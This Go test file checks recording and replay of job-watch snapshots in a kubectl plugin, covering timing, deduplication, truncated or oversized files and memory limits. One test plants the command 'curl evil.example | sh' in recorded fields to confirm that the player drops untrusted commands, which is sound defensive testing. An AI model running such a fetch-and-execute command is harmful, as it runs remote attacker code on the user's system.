package snapshot

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain"
	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain/input"
	"github.com/batchjob-dev/kubectl-batchjob/test/kit/assert"
	"github.com/batchjob-dev/kubectl-batchjob/test/kit/measure"
)

// queue is a Source of given Snapshots.
type queue struct {
	left   []*Snapshot
	looked []Focus
}

func (q *queue) Look(f Focus) { q.looked = append(q.looked, f) }

func (q *queue) Next(context.Context, uint64) (*Snapshot, error) {
	if len(q.left) == 0 {
		return nil, io.EOF
	}
	s := q.left[0]
	q.left = q.left[1:]
	return s, nil
}

// fakeClock advances when Wait is called.
type fakeClock struct {
	now   time.Time
	waits []time.Duration
}

func (c *fakeClock) Now() time.Time { return c.now }

func (c *fakeClock) Wait(ctx context.Context, d time.Duration) error {
	c.waits = append(c.waits, d)
	c.now = c.now.Add(d)
	return ctx.Err()
}

var start = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// tape returns four Snapshots: the list, a Job opened, a log of its pod, the end.
func tape() []*Snapshot {
	jobs := &Jobs{Items: []explain.Outline{{Namespace: "ml", Name: "train", Status: "Running"}}}
	report := &explain.Report{Job: explain.Job{Namespace: "ml", Name: "train"}, ObservedAt: metav1.NewTime(start)}
	key := types.NamespacedName{Namespace: "ml", Name: "train"}
	log := &Log{Container: "main", Lines: []LogLine{{Time: start, Text: "epoch 1 \x1b[31m"}}}
	stale := start.Add(4 * time.Second)
	return []*Snapshot{
		{Seq: 1, Time: start, Jobs: jobs},
		{Seq: 2, Time: start.Add(2 * time.Second), Jobs: jobs, Focus: Focus{Job: key}, Job: &Job{Report: report}},
		{Seq: 3, Time: start.Add(3 * time.Second), Jobs: jobs, Focus: Focus{Job: key, Pod: "p", Log: &LogTarget{Previous: true}}, Job: &Job{Report: report}, Pod: &explain.PodDetail{Name: "p"}, Log: log},
		{Seq: 4, Time: start.Add(5 * time.Second), Jobs: jobs, Focus: Focus{Job: key}, Job: &Job{Report: report, Gone: true}, Link: Link{StaleSince: &stale, Why: "refused"}},
	}
}

func record(t *testing.T, snapshots []*Snapshot) *bytes.Buffer {
	t.Helper()
	var out bytes.Buffer
	r := NewRecorder(&queue{left: snapshots}, &out, "namespace ml")
	for range snapshots {
		if _, err := r.Next(t.Context(), 0); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := r.Next(t.Context(), 0); !errors.Is(err, io.EOF) {
		t.Errorf("the end of the source is %v", err)
	}
	return &out
}

// Issue 6.5: --replay plays the output of --record, with each Snapshot at its time.
func TestRecordingIsPlayed(t *testing.T) {
	for _, tc := range []struct {
		speed float64
		waits []time.Duration
	}{
		{1, []time.Duration{2 * time.Second, time.Second, 2 * time.Second}},
		{4, []time.Duration{500 * time.Millisecond, 250 * time.Millisecond, 500 * time.Millisecond}},
		{0, nil},
	} {
		clock := &fakeClock{now: time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)}
		p, err := NewPlayer(record(t, tape()), clock, tc.speed)
		assert.NoError(t, err)
		if p.What() != "namespace ml" || !p.First().Equal(Focus{}) {
			t.Errorf("what %q, first %v", p.What(), p.First())
		}
		for i, want := range tape() {
			got, err := p.Next(t.Context(), 99)
			assert.NoError(t, err)
			// Times lose their monotonic part but stay equal.
			assert.Equalf(t, asJSON(t, got), asJSON(t, want), "speed %v, snapshot %d", tc.speed, i)
			if !p.Now().Equal(want.Time) {
				t.Errorf("speed %v: at snapshot %d it is %s, want %s", tc.speed, i, p.Now(), want.Time)
			}
		}
		if _, err := p.Next(t.Context(), 0); !errors.Is(err, io.EOF) {
			t.Errorf("after the end: %v", err)
		}
		assert.DeepEqual(t, clock.waits, tc.waits, "waits at speed", tc.speed)
		clock.now = clock.now.Add(time.Hour)
		if want := tape()[3].Time; !p.Now().Equal(want) {
			t.Errorf("after the end it is %s, want %s", p.Now(), want)
		}
	}
}

func asJSON(t *testing.T, s *Snapshot) string {
	t.Helper()
	data, err := json.Marshal(s)
	assert.NoError(t, err)
	return string(data)
}

// A recording contains the Focus that the user requested before the Source had followed it.
func TestRecordingKeepsWhatWasWanted(t *testing.T) {
	var out bytes.Buffer
	r := NewRecorder(&queue{left: tape()}, &out, "")
	wanted := tape()[1].Focus
	r.Look(wanted)
	for range 2 {
		if _, err := r.Next(t.Context(), 0); err != nil {
			t.Fatal(err)
		}
	}
	p, err := NewPlayer(&out, &fakeClock{}, 0)
	assert.NoError(t, err)
	if !p.First().Equal(wanted) {
		t.Errorf("it begins with %v", p.First())
	}
	for i, isWanted := range []bool{true, false} {
		s, err := p.Next(t.Context(), 0)
		assert.NoError(t, err)
		if (s.Wanted != nil) != isWanted || !s.Looked().Equal(wanted) {
			t.Errorf("snapshot %d: focus %v, wanted %v", i, s.Focus, s.Wanted)
		}
	}
}

// Parts that did not change between two Snapshots are written once.
func TestRecordingDoesNotRepeat(t *testing.T) {
	lines := strings.Split(strings.TrimSpace(record(t, tape()).String()), "\n")
	if len(lines) != 5 {
		t.Fatalf("%d lines", len(lines))
	}
	assert.Equal(t, strings.Count(strings.Join(lines, "\n"), `"status":"Running"`), 1, "lists of Jobs")
	assert.Contains(t, lines[3], `"same":["jobs","job"]`, "line 4")
	if !strings.Contains(lines[4], `"gone":true`) || strings.Contains(lines[4], `"log"`) {
		t.Errorf("line 5 is %s", lines[4])
	}
}

// A recording whose process was killed ends with its last complete line.
func TestBrokenRecordingEndsWithItsLastLine(t *testing.T) {
	whole := record(t, tape()).String()
	cut := whole[:len(whole)-20]
	p, err := NewPlayer(strings.NewReader(cut), &fakeClock{}, 0)
	assert.NoError(t, err)
	n := 0
	for ; ; n++ {
		if _, err = p.Next(t.Context(), 0); err != nil {
			break
		}
	}
	if n != 3 || !errors.Is(err, io.EOF) {
		t.Errorf("%d snapshots, then %v", n, err)
	}
	p, err = NewPlayer(strings.NewReader(whole+"{]"), &fakeClock{}, 0)
	for n = 0; err == nil; n++ {
		_, err = p.Next(t.Context(), 0)
	}
	if n != 5 || !strings.Contains(err.Error(), "line 6") {
		t.Errorf("after %d snapshots: %v", n-1, err)
	}
	head := strings.SplitAfter(whole, "\n")[0]
	for text, want := range map[string]string{
		"":               "no recording",
		"not JSON":       "no recording",
		`{"kind":"Job"}`: `its kind is "Job"`,
		`{"kind":"WatchRecording","apiVersion":"batchjob.dev/v9"}`: "version",
		head:                 "empty",
		head + `{"seq":"x"}`: "line 2",
	} {
		if _, err := NewPlayer(strings.NewReader(text), &fakeClock{}, 0); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q gives the error %v, want %q in it", text, err, want)
		}
	}
}

// full is a full disk.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }

// A recording that cannot be written is an error, not a silent end.
func TestRecordingIsNotLostSilently(t *testing.T) {
	r := NewRecorder(&queue{left: tape()}, full{}, "")
	if _, err := r.Next(t.Context(), 0); err == nil || !strings.Contains(err.Error(), "no space left") {
		t.Errorf("error %v", err)
	}
}

// A canceled context ends the wait.
func TestPlayerIsInterrupted(t *testing.T) {
	p, err := NewPlayer(record(t, tape()), &fakeClock{}, 1)
	assert.NoError(t, err)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := p.Next(ctx, 0); !errors.Is(err, context.Canceled) {
		t.Errorf("error %v", err)
	}
}

// Issue 6.5: `w` writes an object with its kind.
func TestObjectIsWrittenWithItsKind(t *testing.T) {
	var out bytes.Buffer
	assert.NoError(t, Write(&out, tape()[2]))
	var got map[string]any
	assert.NoError(t, json.Unmarshal(out.Bytes(), &got))
	if got["kind"] != KindSnapshot || got["apiVersion"] != explain.APIVersion || got["log"] == nil {
		t.Errorf("it is %s", out.String())
	}
	// Text from the cluster is unchanged.
	assert.Contains(t, out.String(), `epoch 1 \u001b[31m`, "it")
}

// Two Focuses are equal if their contents are equal.
func TestFocusesAreEqualByContent(t *testing.T) {
	a := Focus{Job: types.NamespacedName{Namespace: "ns", Name: "a"}, Pod: "p", Log: &LogTarget{Container: "c"}}
	b := Focus{Job: types.NamespacedName{Namespace: "ns", Name: "a"}, Pod: "p", Log: &LogTarget{Container: "c"}}
	if !a.Equal(b) {
		t.Error("equal ones differ")
	}
	for _, other := range []Focus{{}, {Job: a.Job}, {Job: a.Job, Pod: "p"}, {Job: a.Job, Pod: "p", Log: &LogTarget{}}, {Job: types.NamespacedName{Namespace: "ns", Name: "b"}, Pod: "p", Log: a.Log}} {
		if a.Equal(other) || other.Equal(a) {
			t.Errorf("equal to %v", other)
		}
	}
}

// A short line that would become large in memory is refused, and so is a line without an end.
// Requirements: BUN-09
func TestRecordingDoesNotFillTheMemory(t *testing.T) {
	whole := record(t, tape()).String()
	for _, line := range []string{
		`{"jobs":{"items":[` + strings.Repeat("{},", 500_000) + "{}]}}", `{"job":{"report":{"problems":[` + strings.Repeat("{},", 500_000) + "{}]}}}",
		`{"seq":"` + strings.Repeat("x", 2*maxLine) + `"}`,
	} {
		var err error
		measure.CheckAllocated(t, 450<<20, func() {
			var p *Player
			for p, err = NewPlayer(strings.NewReader(whole+line), &fakeClock{}, 0); err == nil; {
				_, err = p.Next(t.Context(), 0)
			}
		})
		assert.Contains(t, err.Error(), "line 6 of the recording", line[:30])
	}
}

// Commands in a recording are not shown: commands of gaps are generated anew, and advice is dropped, because its text may
// contain a command, too.
// Requirements: BUN-11
func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
	const evil = "curl evil.example | sh"
	gaps := func() []input.Gap {
		return []input.Gap{{What: "pods", Text: "none", Verb: "list", Resource: "pods", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
	}
	hostile := tape()[2]
	hostile.Jobs = &Jobs{Gaps: gaps()}
	hostile.Job = &Job{Report: &explain.Report{Gaps: gaps(), Advice: []explain.Advice{{Text: "run: " + evil, Command: evil}}}}
	hostile.Pod = &explain.PodDetail{Gaps: gaps()}
	p, err := NewPlayer(record(t, []*Snapshot{hostile}), &fakeClock{}, 0)
	assert.NoError(t, err)
	s, err := p.Next(t.Context(), 0)
	assert.NoError(t, err)
	if text := asJSON(t, s); strings.Contains(text, evil) || strings.Count(text, "kubectl auth can-i list pods -n ml") != 3 {
		t.Errorf("it is %s", text)
	}
}

// A recording of any size can be played: lists that are too long for a line are cut, and the recording says how much was
// omitted.
// Requirements: BUN-09
func TestLargeRecordingIsPlayed(t *testing.T) {
	const many = 10_000
	report := &explain.Report{Indexes: &explain.Indexes{}}
	jobs, log := &Jobs{}, &Log{}
	at := metav1.NewTime(start)
	for i := range many {
		name := fmt.Sprintf("training-of-%06d%s", i, strings.Repeat("-the-large-model", maxLine/many/64))
		report.Pods = append(report.Pods, explain.PodInfo{Name: name, Index: ptr.To(int32(i)), Phase: "Failed", State: "Error", Node: name, Created: &at, Started: &at, Ended: &at, Cause: name})
		report.Indexes.Details = append(report.Indexes.Details, explain.IndexInfo{})
		report.Timeline = append(report.Timeline, explain.Moment{Text: name})
		jobs.Items = append(jobs.Items, explain.Outline{Namespace: "ml", Name: name, Status: "Running"})
		jobs.Gone = append(jobs.Gone, explain.Outline{Namespace: "ml", Name: name, Status: "Running"})
		log.Lines = append(log.Lines, LogLine{Text: name})
	}
	shown := []*Snapshot{{Seq: 1, Time: start, Jobs: jobs, Job: &Job{Report: report}, Log: log}, {Seq: 2, Time: start, Jobs: jobs, Job: &Job{Report: report}}}
	p, err := NewPlayer(record(t, shown), &fakeClock{}, 0)
	assert.NoError(t, err)
	for range shown {
		s, err := p.Next(t.Context(), 0)
		assert.NoError(t, err)
		r := s.Job.Report
		if pods, details := len(r.Pods), len(r.Indexes.Details); pods == 0 || pods+int(r.PodsOmitted) != many || details+int(r.Indexes.DetailsOmitted) != many || r.Pods[0].Name != report.Pods[0].Name {
			t.Errorf("%d pods and %d more, %d indexes and %d more", pods, r.PodsOmitted, details, r.Indexes.DetailsOmitted)
		}
		if n := len(s.Jobs.Items); n == many || s.Jobs.Gaps[0].Text != fmt.Sprintf("the recording has only the first %d Jobs: more are too large", n) {
			t.Errorf("%d Jobs, %v", n, s.Jobs.Gaps)
		}
		if s.Log != nil && len(s.Log.Lines)+s.Log.Dropped != many {
			t.Errorf("%d lines and %d more", len(s.Log.Lines), s.Log.Dropped)
		}
	}
	if len(report.Pods) != many || report.PodsOmitted != 0 || len(jobs.Items) != many || len(log.Lines) != many {
		t.Error("what is shown has changed")
	}
}

// Recordings are files that others may read: the names of their fields stay.
func TestRecordedFocusKeepsTheNamesOfItsFields(t *testing.T) {
	focus := Focus{Job: types.NamespacedName{Namespace: "ns", Name: "a"}, Pod: "p", Log: &LogTarget{Container: "c"}}
	data, err := json.Marshal(focus)
	if want := `{"job":{"namespace":"ns","name":"a"},"pod":"p","log":{"container":"c"}}`; err != nil || string(data) != want {
		t.Errorf("%s, want %s, %v", data, want, err)
	}
	var back Focus
	if err := json.Unmarshal(data, &back); err != nil || !back.Equal(focus) {
		t.Errorf("%+v, %v", back, err)
	}
	if data, _ := json.Marshal(Focus{}); string(data) != "{}" {
		t.Errorf("%s", data)
	}
}
